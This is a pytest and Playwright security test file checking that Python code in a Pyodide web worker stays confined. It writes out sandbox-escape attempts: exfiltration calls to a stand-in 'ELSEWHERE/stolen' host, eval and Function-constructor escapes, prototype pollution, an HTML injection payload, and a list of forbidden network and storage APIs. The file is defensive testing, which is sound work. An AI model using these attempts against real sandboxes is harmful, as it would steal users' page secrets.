"""Hostile code stays in its room: what runs in the worker reaches no other host, no storage of the site, no page."""

from __future__ import annotations

import functools
import hashlib
import re
import socketserver

import pytest
import zstandard
from playwright.sync_api import expect
from runsheet.bundle import STATIC

from tests.browser.conftest import app_server, asked_of, browsing, serving
from tests.browser.test_run import card, run, shown
from tests.conftest import Notes

pytestmark = pytest.mark.xdist_group("confined")

SECRET = "a-secret-of-the-page"
# Every snippet begins with this. `attempt` says whether a way was open; `search` walks all that code can reach.
PRELUDE = """\
import gc, sys
import js, pyodide_js
from pyodide.ffi import create_proxy, run_sync, to_js

URL = "ELSEWHERE/stolen"


def attempt(name, work):
    try:
        result = work()
        result = run_sync(result) if hasattr(result, "then") else result
        print(name, "OPEN", result)
    except BaseException as error:
        print(name, "refused by", type(error).__name__)


def chain(thing):
    while thing:
        yield thing
        thing = js.Object.getPrototypeOf(thing)


def table(**entries):
    return to_js(entries, dict_converter=js.Object.fromEntries)


def bring():
    return next(finder for finder in sys.meta_path if type(finder).__name__ == "Offered")


"""
FORBIDDEN = """
    fetch XMLHttpRequest WebSocket WebSocketStream WebTransport EventSource Request importScripts Worker
    SharedWorker indexedDB caches Cache CacheStorage localStorage sessionStorage cookieStore document window parent
    top opener BroadcastChannel Notification FileReaderSync FileSystemHandle StorageManager LockManager
    ServiceWorkerRegistration RTCPeerConnection PushManager fonts FontFace createImageBitmap OffscreenCanvas
    reportError webkitRequestFileSystem trustedTypes scheduler PressureObserver ReportingObserver close GPU
"""
NAVIGATOR = (
    "storage locks sendBeacon serviceWorker permissions serial usb hid gpu storageBuckets connection mediaCapabilities"
)


def look_for(names: str, thing: str) -> str:
    """A snippet that looks for these names at a thing and at all that it inherits from."""
    return f"""\
for name in {names.split()}:
    for place in chain({thing}):
        if hasattr(place, name):
            print(name, "OPEN")
print("looked")
"""


CASES = {
    "globals": look_for(FORBIDDEN, "js.self"),
    "navigator": look_for(NAVIGATOR, "js.navigator"),
    "fetch": """\
attempt("js", lambda: js.fetch(URL))
attempt("self", lambda: js.self.fetch(URL))
attempt("global", lambda: js.globalThis.fetch(URL))
attempt("reflect", lambda: js.Reflect.get(js.self, "fetch")(URL))
attempt("prototype", lambda: js.Object.getPrototypeOf(js.self).fetch(URL))
attempt("scope", lambda: js.WorkerGlobalScope.prototype.fetch(URL))
""",
    "libraries": """\
import urllib.request, socket
from pyodide.http import open_url, pyfetch
attempt("pyfetch", lambda: run_sync(pyfetch(URL)))
attempt("open_url", lambda: open_url(URL))
attempt("urllib", lambda: urllib.request.urlopen(URL, timeout=1))
attempt("socket", lambda: socket.create_connection(("127.0.0.1", int(URL.split(":")[2].split("/")[0])), 1).send(b"x"))
""",
    "pyodide": """\
import contextlib
# Some of these only complain on the console: what counts is that nobody is asked.
for work in (
    lambda: run_sync(pyodide_js.loadPackage(URL + ".whl")),
    lambda: run_sync(pyodide_js.loadPackage("micropip")),
    lambda: run_sync(pyodide_js._api.loadDynlib(URL + ".so", True, to_js([]))),
    lambda: pyodide_js.FS.createLazyFile("/", "lazy", URL, True, False),
    lambda: run_sync(pyodide_js._module.getDylinkMetadata(URL)),
):
    with contextlib.suppress(BaseException):
        work()
print("looked")
""",
    "databases": """\
def store():
    pyodide_js.FS.mkdir("/kept")
    pyodide_js.FS.mount(pyodide_js.FS.filesystems.IDBFS, table(), "/kept")
    done = []
    pyodide_js.FS.syncfs(True, create_proxy(done.append))
    assert not done[0], done
attempt("idbfs", store)
attempt("directory", lambda: run_sync(js.navigator.storage.getDirectory()))
attempt("native", lambda: pyodide_js.mountNativeFS("/mnt", table()))
""",
    "evaluation": """\
from pyodide.code import run_js
attempt("run_js", lambda: run_js("1"))
attempt("eval", lambda: js.eval("1"))
attempt("Function", lambda: js.Function.new("return 1")())
attempt("constructor", lambda: js.Object.constructor("return fetch")()(URL))
attempt("deeper", lambda: js.Array.prototype.constructor.constructor("return 1")())
attempt("reflect", lambda: js.Reflect.construct(js.Function, to_js(["return 1"]))())
attempt("async", lambda: bring().fetch.__closure__[0].cell_contents.constructor("return 1")())
attempt("import", lambda: js.Function.new(f"return import({URL!r})")())
""",
    "timers": """\
js.setTimeout("globalThis.evaluated = 1", 0)
js.setInterval("globalThis.evaluated = 1", 1)
import time
time.sleep(0.05)
run_sync(js.Promise.new(create_proxy(lambda done, *_: js.setTimeout(done, 20))))
print("OPEN" if hasattr(js, "evaluated") else "looked")
""",
    "workers": """\
source = js.URL.createObjectURL(js.Blob.new(to_js([f"fetch({URL!r})"]), table(type="text/javascript")))
attempt("Worker", lambda: js.Worker.new(source))
attempt("SharedWorker", lambda: js.SharedWorker.new(source))
attempt("importScripts", lambda: js.importScripts(source))
attempt("channel", lambda: js.BroadcastChannel.new("x"))
""",
    "revival": """\
# A global of that name must not be taken for the browser's by what runs behind it.
js.fetch = create_proxy(lambda *_: print("OPEN"))
js.caches = table(open=create_proxy(lambda *_: print("OPEN")))
bring().fetch(["wrapt"])
js.onmessage(table(data=table(type="start", manifest=URL, snapshot="python")))
run_sync(js.Promise.new(create_proxy(lambda done, *_: js.setTimeout(done, 20))))
print("looked")
""",
    "modules": """\
for name in ("parts", "page"):
    attempt(name, lambda: __import__(name))
for finder in sys.meta_path:
    if hasattr(finder, "jsproxies"):
        print(finder, "OPEN" if {"parts", "page"} & set(finder.jsproxies) else "looked")
""",
    "other-parts": """\
fetch = bring().fetch
for name in (URL, "../../page/", "/page/", "constructor", "__proto__", "toString", table(file="/page/"), None):
    attempt(name, lambda: fetch([name]))
""",
    "parts-polluted": """\
polluted = table(file="/page/", bytes=1, url="/page/", href="/page/")
js.Object.prototype.polluted = polluted
attempt("polluted", lambda: bring().fetch(["polluted"]))
js.Reflect.deleteProperty(js.Object.prototype, "polluted")
bring().packages["cachelib"]["file"] = "/page/"
bring().fetch(["cachelib"])
""",
    "parts-patched": """\
# What the bundle's own code uses of the browser is replaced: it must not be led elsewhere, nor keep what it is given.
address, answer = js.URL, js.Response
js.URL = create_proxy(lambda *given: table(href="/page/"))
js.Response = answer.bind(None, "stolen")
bring().fetch(["h11"])
js.URL, js.Response = address, answer
print("looked")
""",
    "parts-firm": """\
for kind, names in (
    (js.Object.getPrototypeOf(js.Uint8Array.prototype), "set subarray slice fill copyWithin"),
    (js.Uint8Array.prototype, "set subarray slice constructor"),
    (js.Array.prototype, "push map"),
    (js.Promise.prototype, "then constructor"),
    (js.Response.prototype, "arrayBuffer body headers"),
    (js.Math, "min"),
):
    for name in names.split():
        if js.Reflect.set(kind, name, 1):
            print(name, "OPEN")
print("looked")
""",
    "heap": """\
kinds = ("Cache", "CacheStorage", "Parts", "ReadableStream", "Request")
for thing in gc.get_objects():
    if type(thing).__name__ == "JsProxy" or "pyodide.ffi" in type(thing).__module__:
        kind = getattr(getattr(thing, "constructor", None), "name", "")
        if kind in kinds:
            print(kind, "OPEN")
print("looked")
""",
}


FORGE = """\
import js
from pyodide.ffi import to_js

HTML = "<img src=x id=forged>"
answer = {"title": HTML, "method": HTML, "target": HTML, "status": HTML, "headers": [[HTML, HTML]], "body": HTML}
answer |= {"sent": HTML, "printed": HTML, "timeline": {"route": HTML, "steps": [HTML]}}
messages = [None, 1, HTML, {}, {"type": None}, {"type": "constructor"}, {"type": "__proto__"}, {"type": "toString"}]
for number in (1, 2, 3, 10**6, HTML, None):
    messages += [
        {"type": "output", "id": number, "stream": HTML, "text": HTML},
        {"type": "output", "id": number, "stream": "stdout", "text": {"a": 1}},
        {"type": "loading", "bytes": HTML, "total": None},
        {"type": "full", "id": number},
        {"type": "begun", "id": number},
        {"type": "answered", "number": number, **answer},
    ]
for message in messages:
    js.postMessage(to_js(message, dict_converter=js.Object.fromEntries))
print("posted")
"""
END = FORGE.replace(
    "for message in",
    """\
messages += [{"type": "done", "id": number} for number in range(300)]
messages += [
    {"type": "done", "id": number, "error": HTML, "at": {"file": HTML, "line": 1}, "answers": [answer], "seconds": HTML}
    for number in range(300)
]
for message in""",
)
FLOOD = """\
import js
from pyodide.ffi import to_js

for number in [*range(100)] * 2:
    js.postMessage(to_js({"type": "output", "id": number, "stream": "stdout", "text": "x" * 1_000_000},
        dict_converter=js.Object.fromEntries))
print("posted")
"""


class Anybody(socketserver.BaseRequestHandler):
    """Notes that somebody came, whatever they say."""

    def handle(self):
        self.server.came.append(self.request.recv(100))


@pytest.fixture(scope="module")
def elsewhere():
    """Another host, as far as browsers care: its address, and who came."""
    server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), Anybody)
    server.daemon_threads = True
    server.came = []
    with serving(server) as url:
        server.url = url
        yield server


@pytest.fixture(scope="module")
def our_app(elsewhere, tmp_path_factory):
    """Our site, with all snippets on a page."""
    notes = Notes(tmp_path_factory.mktemp("notes"))
    sources = {f"{name}.py": (PRELUDE + source).replace("ELSEWHERE", elsewhere.url) for name, source in CASES.items()}
    sources |= {"forge.py": FORGE, "end.py": END, "flood.py": FLOOD, "fine.py": "print('fine')"}
    notes.recorded(sources)
    return notes.app()


@pytest.fixture(scope="module")
def asked(our_app):
    """The paths that our site was asked for."""
    return asked_of(our_app)


@pytest.fixture(scope="module")
def page(browser, our_app, asked):
    """The page of all snippets, which keeps secrets in every storage."""
    with serving(app_server(our_app)) as url, browsing(browser, url, service_workers="block") as page:
        page.goto("/page/")
        page.evaluate(KEEP_SECRETS, SECRET)
        run(page, "fine.py")
        yield page


KEEP_SECRETS = """async (secret) => {
    localStorage.setItem("secret", secret);
    document.cookie = `secret=${secret}`;
    await (await caches.open("secret")).put("/secret", new Response(secret));
    await new Promise((resolve) => {
        const opening = indexedDB.open("secret");
        opening.onupgradeneeded = () => opening.result.createObjectStore("x").add(secret, "x");
        opening.onsuccess = resolve;
    });
}"""
# The digests of what the browser keeps of the runtime.
KEPT = """async () => {
    const kept = await caches.open("runtime");
    const digests = {};
    for (const { url } of await kept.keys()) {
        const bytes = await (await kept.match(url)).arrayBuffer();
        const digest = new Uint8Array(await crypto.subtle.digest("SHA-256", bytes));
        digests[url.split("/").at(-1)] = Array.from(digest, (byte) => byte.toString(16).padStart(2, "0")).join("");
    }
    return digests;
}"""


@functools.cache
def unpressed(file: str) -> str:
    """The digest of what a file of the bundle holds."""
    with zstandard.open(STATIC / "runtime" / file) as part:
        return hashlib.file_digest(part, "sha256").hexdigest()


@pytest.mark.parametrize("name", CASES)
def test_there_is_no_way_out(page, elsewhere, asked, name):
    start = len(asked)
    figure = run(page, f"{name}.py")
    printed = shown(figure)
    assert re.search("refused|looked", printed)
    assert "Traceback" not in printed
    assert "OPEN" not in printed
    assert SECRET not in printed
    assert elsewhere.came == []
    part = re.compile(r"/snippets/.*|/static/(dist|runtime)/[\w.-]+-[0-9A-Z]{8}\.\w+")
    assert [path for path in asked[start:] if not part.fullmatch(path)] == []
    # The next start trusts what is kept.
    kept = page.evaluate(KEPT)
    assert len(kept) >= 3
    assert {file: digest for file, digest in kept.items() if digest != unpressed(file)} == {}


@pytest.mark.parametrize("name", ["forge.py", "end.py"])
def test_forged_messages_show_no_html_and_break_nothing(page, name):
    figure = card(page, name)
    figure.get_by_role("button", name="Run").click()
    expect(figure.get_by_role("button", name="Run")).to_be_visible(timeout=10_000)
    page.wait_for_timeout(200)
    assert page.locator("#forged").count() == 0
    assert shown(run(page, "fine.py")) == "fine"


def test_a_flood_of_messages_leaves_the_page_usable(page):
    figure = card(page, "flood.py")
    figure.get_by_role("button", name="Run").click()
    expect(figure.get_by_role("button", name="Run")).to_be_visible(timeout=10_000)
    assert len(figure.locator(".output").inner_text()) < 1_000_000
    assert shown(run(page, "fine.py")) == "fine"


# What a worker of a blob may do, that a page makes: its first message tells.
TRY_IN_A_WORKER = """(elsewhere) => new Promise((resolve) => {
    const source = `
        const tried = {};
        const attempt = async (name, work) => (tried[name] = await work().then(() => "open", () => "refused"));
        const heard = (name, thing) => attempt(name, () => new Promise((open, refused) => {
            thing.onopen = thing.onmessage = open;
            thing.onerror = refused;
        }));
        const evaluate = async () => (0, eval)("1");
        const script = URL.createObjectURL(new Blob(["1"], { type: "text/javascript" }));
        await attempt("fetch", () => fetch("${elsewhere}/fetch", { mode: "no-cors" }));
        await attempt("import", () => import("${elsewhere}/import.js"));
        await attempt("blob", () => import(script));
        await attempt("eval", evaluate);
        await heard("WebSocket", new WebSocket("${elsewhere}/socket".replace("http", "ws")));
        await heard("EventSource", new EventSource("${elsewhere}/events"));
        postMessage(tried);`;
    const worker = new Worker(URL.createObjectURL(new Blob([source], { type: "text/javascript" })), { type: "module" });
    worker.onmessage = ({ data }) => resolve(data);
    worker.onerror = ({ message }) => resolve(message);
})"""


@pytest.mark.parametrize("site", ["frozen", "live"])
def test_a_worker_of_a_blob_has_the_pages_policy_even_where_the_host_sends_none(request, new_page, elsewhere, site):
    page = new_page(request.getfixturevalue(site))
    policy = page.goto("/").headers.get("content-security-policy")
    assert bool(policy) == (site == "live")
    tried = page.evaluate(TRY_IN_A_WORKER, elsewhere.url)
    assert set(tried) == {"fetch", "import", "blob", "eval", "WebSocket", "EventSource"}
    assert set(tried.values()) == {"refused"}
    assert elsewhere.came == []


def test_elsewhere_hears_who_comes(live, new_page, elsewhere):
    """Else nobody could be sure that nobody came: the same without the page's policy, after all the others."""
    assert elsewhere.came == []
    page = new_page(live, bypass_csp=True)
    page.goto("/")
    page.evaluate(TRY_IN_A_WORKER, elsewhere.url)
    asked_for = {heard.split()[1].decode() for heard in elsewhere.came}
    assert asked_for == {"/fetch", "/import.js", "/socket", "/events"}
